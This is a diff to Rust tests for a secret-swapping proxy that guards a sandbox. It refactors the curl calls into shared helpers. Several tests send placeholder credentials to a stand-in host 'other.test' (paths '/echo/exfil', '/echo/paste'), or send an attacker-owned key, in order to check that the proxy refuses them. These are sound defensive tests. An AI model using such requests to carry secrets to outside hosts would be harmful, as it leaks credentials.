@@ -7,6 +7,7 @@ mod support;
 
 use support::{
     CurlRequest, ExpectedRefusal, Proxy, ProxyBuilder, TestPki, Upstream, assert_refusal, curl,
+    curl_get,
 };
 
 const PLACEHOLDER: &str = "PLACEHOLDER_LLM_KEY_7f3a";
@@ -59,14 +60,7 @@ fn placeholder_is_swapped_on_its_host_and_scrubbed_back() {
     let url = format!("https://localhost:{}/echo/llm", upstream.port());
     let auth = format!("Authorization: Bearer {PLACEHOLDER}");
     let extra = format!("X-Copy: {PLACEHOLDER}");
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            headers: &[&auth, &extra],
-            ..CurlRequest::get(&url)
-        },
-    );
+    let response = curl_get(&proxy, &pki, &url, &[&auth, &extra]);
     assert_eq!(response.status, 200, "{response:?}");
     let hits = upstream.hits();
     assert_eq!(hits.len(), 1);
@@ -102,14 +96,7 @@ fn placeholder_inside_basic_auth_is_swapped() {
     let proxy = start(&pki, &upstream);
     let url = format!("https://localhost:{}/echo/basic", upstream.port());
     let auth = format!("Authorization: Basic {BASIC_PLACEHOLDER}");
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            headers: &[&auth],
-            ..CurlRequest::get(&url)
-        },
-    );
+    let response = curl_get(&proxy, &pki, &url, &[&auth]);
     assert_eq!(response.status, 200, "{response:?}");
     let hits = upstream.hits();
     assert_eq!(
@@ -126,14 +113,7 @@ fn placeholder_sent_to_another_host_is_a_tripwire() {
     let proxy = start(&pki, &upstream);
     let url = format!("https://other.test:{}/echo/exfil", upstream.port());
     let auth = format!("Authorization: Bearer {PLACEHOLDER}");
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            headers: &[&auth],
-            ..CurlRequest::get(&url)
-        },
-    );
+    let response = curl_get(&proxy, &pki, &url, &[&auth]);
     assert_refusal(
         response.status,
         &response.headers,
@@ -170,13 +150,11 @@ fn foreign_credential_on_the_secrets_host_is_refused() {
     let upstream = Upstream::tls(&pki);
     let proxy = start(&pki, &upstream);
     let url = format!("https://localhost:{}/echo/foreign", upstream.port());
-    let response = curl(
+    let response = curl_get(
         &proxy,
         &pki,
-        &CurlRequest {
-            headers: &["Authorization: Bearer sk-attacker-owned-key-000000"],
-            ..CurlRequest::get(&url)
-        },
+        &url,
+        &["Authorization: Bearer sk-attacker-owned-key-000000"],
     );
     assert_refusal(
         response.status,
@@ -219,16 +197,18 @@ fn body_secrets_are_swapped_in_bodies_and_trip_elsewhere() {
     let upstream = Upstream::tls(&pki);
     let proxy = start_with_body_secret(&pki, &upstream);
     let body = format!("{{\"api_key\":\"{PLACEHOLDER}\",\"n\":1}}");
-    let url = format!("https://localhost:{}/echo/body", upstream.port());
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            method: Some("POST"),
-            body: Some(&body),
-            ..CurlRequest::get(&url)
-        },
-    );
+    let post = |url: &str| {
+        curl(
+            &proxy,
+            &pki,
+            &CurlRequest {
+                method: Some("POST"),
+                body: Some(&body),
+                ..CurlRequest::get(url)
+            },
+        )
+    };
+    let response = post(&format!("https://localhost:{}/echo/body", upstream.port()));
     assert_eq!(response.status, 200, "{response:?}");
     let echo: serde_json::Value = serde_json::from_slice(&response.body).expect("echo JSON");
     assert_eq!(
@@ -248,16 +228,10 @@ fn body_secrets_are_swapped_in_bodies_and_trip_elsewhere() {
         "the audit line names the secret swapped in the body: {line}"
     );
 
-    let exfil = format!("https://other.test:{}/echo/paste", upstream.port());
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            method: Some("POST"),
-            body: Some(&body),
-            ..CurlRequest::get(&exfil)
-        },
-    );
+    let response = post(&format!(
+        "https://other.test:{}/echo/paste",
+        upstream.port()
+    ));
     assert_eq!(response.status, 403, "{response:?}");
     let refusal: serde_json::Value = serde_json::from_slice(&response.body).expect("JSON 403");
     assert_eq!(refusal["reason"], "secret_out_of_scope", "{refusal}");
@@ -291,14 +265,7 @@ fn a_rotated_file_secret_is_used_without_a_restart() {
     let url = format!("https://localhost:{port}/echo/rotate");
     let auth = format!("Authorization: Bearer {PLACEHOLDER}");
     let send = || {
-        let response = curl(
-            &proxy,
-            &pki,
-            &CurlRequest {
-                headers: &[&auth],
-                ..CurlRequest::get(&url)
-            },
-        );
+        let response = curl_get(&proxy, &pki, &url, &[&auth]);
         assert_eq!(response.status, 200, "{response:?}");
         let hits = upstream.hits();
         let last = hits.last().expect("a hit");
@@ -336,14 +303,7 @@ fn a_compressed_response_from_a_secrets_host_is_not_passed_on() {
     let proxy = start(&pki, &upstream);
     let auth = format!("Authorization: Bearer {PLACEHOLDER}");
     let on_secret_host = format!("https://localhost:{}/compressed", upstream.port());
-    let response = curl(
-        &proxy,
-        &pki,
-        &CurlRequest {
-            headers: &[&auth],
-            ..CurlRequest::get(&on_secret_host)
-        },
-    );
+    let response = curl_get(&proxy, &pki, &on_secret_host, &[&auth]);
     assert_eq!(
         response.status, 502,
         "an unscrubbable body must not reach the sandbox: {response:?}"
